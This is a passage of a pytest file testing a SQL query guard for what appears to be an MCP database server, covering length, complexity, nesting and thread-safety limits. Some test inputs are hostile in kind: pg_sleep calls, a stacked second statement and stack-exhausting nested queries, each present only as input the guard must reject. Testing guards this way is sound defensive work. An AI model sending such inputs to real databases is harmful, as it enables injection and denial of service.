    with pytest.raises(QueryRejectedError, match=r"too long \(13 characters; the limit is 12\)"):
        check_query(sql, max_length=len(sql) - 1)


def test_long_input_is_never_echoed_back() -> None:
    secret = "x" * 5000
    payloads = [
        f"SELECT '{secret}' FROM",  # parse error quoting a long token
        f"SELECT '{secret}",  # unterminated string
        f"SELECT {secret}(1); SELECT 1",
        f"SELECT pg_sleep(1) AS {secret[:63]}",
        "SELECT " + secret * 5,  # too long
    ]
    for payload in payloads:
        with pytest.raises(QueryRejectedError) as info:
            check_query(payload)
        assert len(info.value.message) <= MAX_MESSAGE_LENGTH
        assert "x" * 100 not in info.value.message


def test_long_identifiers_are_truncated_like_postgresql_does() -> None:
    with pytest.raises(QueryRejectedError) as info:
        check_query(f'SELECT * FROM "{"s" * 200}"."{"t" * 200}"')

    assert info.value.message.startswith(f"relation {'s' * 63}.{'t' * 63} is not allowed")


def test_non_string_input_is_rejected() -> None:
    with pytest.raises(QueryRejectedError, match="the query must be a string"):
        check_query(b"SELECT 1")  # type: ignore[arg-type]


def test_lone_surrogate_is_rejected() -> None:
    with pytest.raises(QueryRejectedError, match="not valid Unicode"):
        check_query("SELECT '\ud800'")


def test_token_limit_applies_even_with_a_large_max_length() -> None:
    sql = "SELECT 1 FROM retail.orders WHERE id IN (" + ",".join(["1"] * 13_000) + ")"
    with pytest.raises(QueryRejectedError, match="too complex"):
        check_query(sql, max_length=len(sql))


def test_wide_but_flat_query_is_allowed() -> None:
    values = ",".join(str(i) for i in range(2000))
    ors = " OR ".join(f"store_id = {i}" for i in range(300))
    result = check_query(f"SELECT 1 FROM retail.orders WHERE id IN ({values}) AND ({ors})")
    assert result.relations == frozenset({"retail.orders"})


def test_moderate_nesting_is_allowed() -> None:
    result = check_query("SELECT " + "(SELECT " * 90 + "1" + ")" * 90)
    assert result.relations == frozenset()


def test_walk_errors_become_rejections(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(self: object, root: object) -> frozenset[str]:
        raise RecursionError("simulated")

    monkeypatch.setattr(guard._TreeChecker, "check", boom)
    with pytest.raises(QueryRejectedError, match="could not be analysed"):
        check_query("SELECT 1")


def test_without_a_large_stack_thread_small_queries_still_pass(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refuse(size: int = 0) -> int:
        raise ValueError("size not valid")

    monkeypatch.setattr(guard.threading, "stack_size", refuse)
    assert check_query("SELECT * FROM retail.orders").relations == frozenset({"retail.orders"})
    with pytest.raises(QueryRejectedError, match="function pg_sleep"):
        check_query("SELECT pg_sleep(1)")
    big = "SELECT 1 FROM retail.orders WHERE id IN (" + ",".join(["1"] * 2000) + ")"
    with pytest.raises(QueryRejectedError, match="too complex to check"):
        check_query(big)


def test_can_be_called_from_many_threads() -> None:
    errors: list[BaseException] = []

    def worker() -> None:
        try:
            for _ in range(20):
                assert check_query("SELECT count(*) FROM retail.orders").relations
                with pytest.raises(QueryRejectedError):
                    check_query("SELECT pg_sleep(1)")
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


_CRASH_PROBE = textwrap.dedent(
    """
    import sys, threading
    from zava_mcp.db.guard import check_query
    from zava_mcp.errors import QueryRejectedError

    outcomes = []

    def run():
        deep_valid = "SELECT " + "+".join(["1"] * 900)
        outcomes.append(type(check_query(deep_valid)).__name__)
        for sql in sys.argv[1:]:
            try:
                check_query(sql, max_length=1_000_000)
            except QueryRejectedError as exc:
                outcomes.append(exc.error_code)

    threading.stack_size(256 * 1024)  # a small stack in the calling thread
    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    print(",".join(outcomes))
    """
)


def test_deep_input_never_crashes_even_from_a_small_stack_thread() -> None:
    deep = [
        DEEP_PARENS,
        DEEP_SUBSELECTS,
        DEEP_NOT_CHAIN,
        DEEP_OPERATOR_CHAIN,
        "SELECT " + "+".join(["1"] * 12_000),  # would overflow a small native stack inline
        "SELECT " + "CASE WHEN true THEN " * 1500 + "1" + " END" * 1500,
    ]
    completed = subprocess.run(
        [sys.executable, "-c", _CRASH_PROBE, *deep],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )

    assert completed.returncode == 0, completed.stderr[-2000:]
    assert completed.stdout.strip() == ",".join(["GuardedQuery"] + ["QUERY_REJECTED"] * len(deep))
